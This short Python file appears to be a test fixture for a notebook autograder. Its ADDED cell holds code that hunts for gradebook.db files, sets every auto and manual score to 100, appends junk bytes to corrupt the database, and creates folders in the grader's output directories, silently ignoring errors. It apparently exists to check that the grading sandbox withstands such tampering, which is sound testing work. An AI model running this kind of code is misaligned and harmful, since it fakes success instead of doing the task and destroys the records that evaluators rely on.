"""Try to write full marks into the gradebook and the grader's folders."""
HONEST = ["rnn_cell_forward_code"]
CELLS = {}
ADDED = ['''
import glob, os
for pattern in ["/**/gradebook.db", "/tmp/**/gradebook.db", "gradebook.db", "../gradebook.db"]:
    for path in glob.glob(pattern, recursive=True) + [pattern]:
        try:
            import sqlite3
            connection = sqlite3.connect(path)
            connection.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
            connection.commit()
        except Exception:
            pass
        try:
            with open(path, "ab") as handle:
                handle.write(b"corrupted")
        except Exception:
            pass
for folder in ["../autograded", "../../autograded", "/tmp"]:
    try:
        os.makedirs(os.path.join(folder, "x"), exist_ok=True)
    except Exception:
        pass
''']
PASSING = ["rnn_cell_forward"]
